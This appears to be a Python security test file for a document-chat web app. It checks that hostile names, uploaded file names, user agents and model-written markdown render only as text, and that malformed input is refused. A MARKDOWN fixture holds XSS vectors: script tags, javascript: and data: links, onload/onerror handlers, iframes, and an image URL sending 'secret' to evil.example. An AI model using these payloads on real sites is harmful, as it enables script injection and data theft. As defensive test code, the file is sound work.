"""Hostile text on every page: it stays text, whoever wrote it. Real processes, echo models."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from typing import Any

from browser_client import HTML, BrowserClient
from hostile_pages import EVIL, ROUTES, SMALL_EVIL, Page, add, assert_safe
from installation import PASSWORD, Installation
from pai.entrypoints.web.markdown import CLASSES, TAGS


def test_every_page_runs_nothing_inline_and_names_no_other_origin(
    victim: BrowserClient, nobody: BrowserClient, things: dict[str, str]
) -> None:
    paths = [
        path.format(**things, name="")
        for method, path in ROUTES
        if method == "GET" and not path.startswith(("/pai", "/v1", "/api")) and "/passages/" not in path
    ]
    seen = 0
    for path in paths:
        if path in ("/", "/healthz", "/readyz") or path.startswith("/static"):
            continue
        for client in (victim, nobody):
            answer = client.page(path)
            if answer.status_code != 303:
                assert_safe(answer, plays=path == "/recordings" and client is victim)
                seen += 1
    assert seen >= 18
    for client, path in ((victim, "/chat/cnv_nothing"), (victim, "/nothing"), (nobody, "/collections/col_x")):
        assert_safe(client.page(path))
    assert_safe(nobody.log_in("nobody@pai.test", "a guess that is not right"))
    told = victim.send("GET", "/pai/v1/me").headers
    assert "default-src 'none'" in told["content-security-policy"]
    assert told["cache-control"] == "no-store"


def test_names_and_words_stay_text_on_every_page(served: Installation) -> None:
    add(served, "hostile@pai.test")
    client = BrowserClient(served, "127.0.0.25")
    client.http.headers["user-agent"] = SMALL_EVIL
    form = {"email": "hostile@pai.test", "password": PASSWORD}
    client.http.post("/login", data=form, headers={"sec-fetch-site": "same-origin"})
    sent = {"user-agent": SMALL_EVIL}
    client.page("/account", **sent)
    made = client.send("POST", "/pai/v1/collections", {"name": EVIL}).json()
    own = {"x-csrf-token": client.csrf, "sec-fetch-site": "same-origin"}
    # As curl writes it: a quote in a file name is escaped by a backslash.
    name = EVIL.replace('"', '\\"')
    body = (
        f'--xx\r\ncontent-disposition: form-data; name="file"; filename="{name}.txt"\r\n\r\nSome words.\r\n--xx--\r\n'
    )
    kind = {"content-type": "multipart/form-data; boundary=xx"}
    path = f"/pai/v1/collections/{made['id']}/documents"
    job = client.http.post(path, content=body.encode(), headers={**own, **kind}).json()
    for _ in range(200):
        told = client.http.get(f"/pai/v1/jobs/{job['id']}").json()
        if told["state"] not in ("queued", "running"):
            break
        time.sleep(0.05)
    assert told["accepted"], told
    client.send("POST", "/account/keys", {"name": EVIL, "scopes": ["inference"], "days": "7"})
    chat = client.say(EVIL)[0]["conversation"]
    for where, text in (
        ("/account", EVIL), ("/account", SMALL_EVIL), ("/collections", EVIL), (f"/collections/{made['id']}", "evil.example"),
        (f"/documents/{told['accepted'][0]['document']}", "evil.example"),
        ("/ask", EVIL), (f"/chat/{chat}", EVIL), ("/chat", "evil()"), (f"/ask?collection={EVIL[:50]}", EVIL),
    ):  # fmt: skip
        page = assert_safe(client.page(where, **sent))
        assert text in page.text, where
        assert "evil()" not in str([one for tag, one in page.tags if tag == "script"])
    refused = client.http.post("/login", data={"email": EVIL, "password": "x", "back": EVIL}, headers=HTML)
    assert_safe(refused)
    assert EVIL in [attributes.get("value") for _, attributes in Page(refused.text).tags]  # what the field holds
    client.close()


MARKDOWN = """# <script>evil()</script>
![picture](https://evil.example/p.png?q=secret) [link](javascript:evil()) [two](https://evil.example/) <https://evil.example/auto>
![r][r] [r] <svg onload=evil()> <!-- <img src=x onerror=evil()> --> <a href="//evil.example">x</a> &lt;img src=x onerror=evil()&gt;

[r]: https://evil.example/ref "title"

| <b onclick=evil()>a</b> | [b](data:text/html,evil) |
|:-:|-:|
| ![](//evil.example/x) | `<script>evil()</script>` |

```html
<script>evil()</script>
```
<style>@import url(//evil.example)</style><iframe src="//evil.example"></iframe>
"""


def walk(tree: Any) -> Iterator[list[Any]]:
    if isinstance(tree, list):
        yield tree
        for child in tree[2]:
            yield from walk(child)


def test_what_a_model_says_can_neither_run_nor_fetch_nor_link(victim: BrowserClient) -> None:
    told = victim.say(MARKDOWN)
    blocks = [block for event in told if event["type"] == "blocks" for block in event["blocks"]]
    nodes = [node for block in blocks for node in walk(block)]
    assert len(nodes) > 10
    for tag, kind, children in nodes:
        assert tag in TAGS
        assert kind in {"", *CLASSES}
        assert isinstance(children, list)
    assert "evil()" in json.dumps(blocks)
    page = assert_safe(victim.page(f"/chat/{told[0]['conversation']}"))
    assert "[picture: picture]" in page.text
    assert "https://evil.example/" in page.text  # an address is shown as text
    prose = page.tags[next(n for n, (_, a) in enumerate(page.tags) if a.get("class") == "prose") :]
    shown = [(tag, attributes) for tag, attributes in prose if "evil" in str(attributes)]
    assert shown == []


SURROGATE = b'"\\ud800"'


def test_text_that_is_no_text_is_refused_everywhere(victim: BrowserClient, things: dict[str, str]) -> None:
    own = {"x-csrf-token": victim.csrf, "sec-fetch-site": "same-origin", "content-type": "application/json"}
    collection = things["collection"].encode()
    for path, body in (
        ("/chat/messages", b'{"conversation":"","text":%s}'),
        ("/chat/messages", b'{"conversation":%s,"text":"x"}'),
        ("/ask/questions", b'{"collection":"' + collection + b'","question":%s}'),
        ("/ask/questions", b'{"collection":%s,"question":"x"}'),
        (f"/pai/v1/collections/{things['collection']}/ask", b'{"question":%s}'),
        (f"/pai/v1/collections/{things['collection']}/ask", b'{"question":"x","purpose":%s}'),
        (f"/pai/v1/collections/{things['collection']}/share", b'{"email":%s}'),
        ("/pai/v1/collections", b'{"name":%s}'),
        ("/pai/v1/collections", b'{"name":"x","purpose":%s}'),
        ("/account/keys", b'{"name":%s,"scopes":["inference"],"days":"7"}'),
        ("/pai/v1/keys", b'{"name":%s,"scopes":["inference"]}'),
        ("/account/recovery", b'{"code":%s,"password":"x"}'),
        ("/account/recovery", b'{"code":"x","password":%s}'),
        ("/setup", b'{"token":%s,"password":"violet tractor under nine lamps"}'),
        ("/setup", b'{"token":"x","password":%s}'),
    ):
        answer = victim.http.post(path, content=body % SURROGATE, headers=own)
        assert 400 <= answer.status_code < 500, (path, body, answer.status_code, answer.text)
    for path in (
        "/chat/%ED%A0%80",
        "/chat/%00",
        "/collections/%FF",
        "/ask?collection=%ED%A0%80",
        "/documents/%00/passages/%00",
    ):
        assert victim.http.get(path).status_code in (200, 400, 404), path
